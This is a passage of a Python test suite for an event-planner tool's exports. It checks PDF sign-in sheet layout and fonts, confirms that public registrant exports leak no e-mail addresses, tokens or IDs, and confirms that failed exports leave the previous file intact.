        pdf = self.export("signin", SLUG, "emargement.pdf")
        pages = pdf_pages(pdf)
        # the same sheets: the day on 2 pages, one page per workshop
        self.assertEqual(len(pages), 5)
        self.assertEqual(len(self.signin_pages_ok(pages)), 5)
        self.assertIn("Signature matin", pages[0])
        self.assertIn("Page 1 / 2", pages[0])
        self.assertIn("Page 2 / 2", pages[1])
        # by last name, accents right
        self.assertLess(pages[0].index("D'Almeida"), pages[0].index("de La Tour"))
        self.assertLess(pages[0].index("de La Tour"), pages[0].index("Le Goff"))
        self.assertIn("Inès", pages[0])
        self.assertIn("Salle : Salle Ourcq", "".join(pages[2:]))
        # A4 portrait, every font embedded
        for w, h in pdf_page_sizes(pdf):
            self.assertAlmostEqual(w, 595.3, delta=1)
            self.assertAlmostEqual(h, 841.9, delta=1)
        fonts = subprocess.run(["pdffonts", pdf], capture_output=True, text=True).stdout
        rows = fonts.splitlines()[2:]
        self.assertTrue(rows)
        self.assertTrue(all(r.split()[-5] == "yes" for r in rows), fonts)
        # and only .pdf
        p = self.run_planner("export", "signin", SLUG, "-o", self.path("x.xlsx"))
        self.assertEqual(p.returncode, 2)
        p = self.run_planner("export", "registrants", SLUG, "-o", self.path("x.pdf"))
        self.assertEqual(p.returncode, 2)


class PrivacyPropertyTest(ExportTest):
    """For many random inputs, no e-mail address, token or uid appears anywhere
    in any public export."""

    def test_public_exports_never_leak(self):
        rnd = random.Random(20261210)
        self.import_event(dict(SMALL_EVENT, capacity=1000))
        letters = string.ascii_letters + "éèàçÉÖœ' -"
        for round_ in range(12):
            rows = []
            for i in range(rnd.randint(1, 25)):
                local = "".join(rnd.choice(string.ascii_lowercase) for _ in range(8))
                name = "".join(rnd.choice(letters) for _ in range(rnd.randint(3, 20))).strip()
                rows.append(reg(name or "x", f"{local}{round_}x{i}@ex{rnd.randint(0, 99)}.org",
                                rnd.choice(["", "ADEME", "CCI", local[:4]]),
                                rnd.choice(["", "Paris", "Lyon"]),
                                public=rnd.choice(["yes", "no"])))
            self.import_registrations("petit-atelier", rows)
            secrets = self.secrets()
            texts = []
            for name, opt in (("p.xlsx", []), ("p.csv", []), ("p.csv", ["--excel"]),
                              ("p.json", [])):
                path = self.export("registrants", "petit-atelier", name, "--public", *opt)
                texts.append(xlsx_text(path) if name.endswith(".xlsx")
                             else read_bytes(path).decode("utf-8-sig"))
            blob = "\n".join(texts)
            self.assertNotIn("@", blob.replace("@example", ""))  # no address at all
            for email, token, uid in secrets:
                self.assertNotIn(email, blob)
                self.assertNotIn(email.split("@")[0], blob)
                self.assertNotIn(token, blob)
                self.assertNotIn(uid, blob)


class AtomicWriteTest(ExportTest):
    def setUp(self):
        super().setUp()
        self.import_event(dict(SMALL_EVENT, capacity=1000))
        # text that compresses badly, so that even the xlsx is large
        rnd = random.Random(7)
        noise = lambda: "".join(rnd.choice(string.ascii_letters) for _ in range(50))
        self.import_registrations("petit-atelier", [
            reg(f"Person {i:04d} {noise()}", f"p{i}@example.org", noise()) for i in range(800)])

    def test_unwritable_path(self):
        for target in ("/nonexistent-dir/out.xlsx", self.path("regs.csv/out.csv")):
            p = self.run_planner("export", "registrants", "petit-atelier", "-o", target)
            self.assertEqual(p.returncode, 3, p.stderr)
            self.assertIn(f"planner: {target}", p.stderr)
            self.assertEqual(p.stderr.count("\n"), 1, "one clear line")

    def test_failed_export_keeps_previous_file(self):
        def small_files():
            # writes past 40 kB fail (EFBIG) instead of killing the process
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
            resource.setrlimit(resource.RLIMIT_FSIZE, (40000, 40000))

        for name in ("big.csv", "big.xlsx", "big.json"):
            target = self.path(name)
            with open(target, "w") as f:
                f.write("previous contents")
            p = self.run_planner("export", "registrants", "petit-atelier", "-o", target,
                                 preexec=small_files)
            self.assertEqual(p.returncode, 3, f"{name}: {p.stderr}")
            self.assertIn("planner:", p.stderr)
            with open(target) as f:
                self.assertEqual(f.read(), "previous contents", name)
            leftovers = [n for n in os.listdir(self.dir) if ".tmp-" in n]
            self.assertEqual(leftovers, [], name)
        # and without the limit it succeeds, replacing the file whole
        target = self.export("registrants", "petit-atelier", "big.csv")
        with open(target, encoding="utf-8", newline="") as f:
            self.assertEqual(len(list(csv.reader(f))), 801)


if __name__ == "__main__":
    unittest.main(verbosity=2)
